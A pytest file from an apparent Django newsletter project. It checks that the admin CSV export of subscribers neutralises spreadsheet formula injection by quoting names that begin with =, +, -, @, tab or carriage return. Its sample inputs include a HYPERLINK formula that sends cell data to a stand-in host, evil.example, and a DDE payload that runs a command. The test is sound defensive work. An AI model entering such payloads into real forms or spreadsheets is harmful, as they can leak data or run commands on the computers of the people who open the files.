"""A name typed into the public form must not become a formula in the author's spreadsheet.

Cells that a spreadsheet would read as a formula (starting with = + - @, a tab or a carriage
return) are exported with a leading `'`, so they show as the text the reader typed.
"""

import csv
import io

import pytest
from django.urls import reverse

from newsletter.models import Subscriber

pytestmark = pytest.mark.django_db

FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _export(admin_client) -> list[dict]:
    response = admin_client.post(
        reverse("admin:newsletter_subscriber_changelist"),
        {
            "action": "export_csv",
            "_selected_action": [str(pk) for pk in Subscriber.objects.values_list("pk", flat=True)],
        },
    )
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_a_formula_typed_as_a_name_is_exported_as_plain_text(admin_client):
    for n, name in enumerate(FORMULA_NAMES):
        Subscriber.objects.create(email=f"r{n}@example.com", name=name, status="active")
    Subscriber.objects.create(email="ada@example.com", name="Ada Lovelace", status="active")

    names = {row["email"]: row["name"] for row in _export(admin_client)}

    for n, name in enumerate(FORMULA_NAMES):
        assert names[f"r{n}@example.com"] == "'" + name
    assert names["ada@example.com"] == "Ada Lovelace"  # ordinary names are left alone
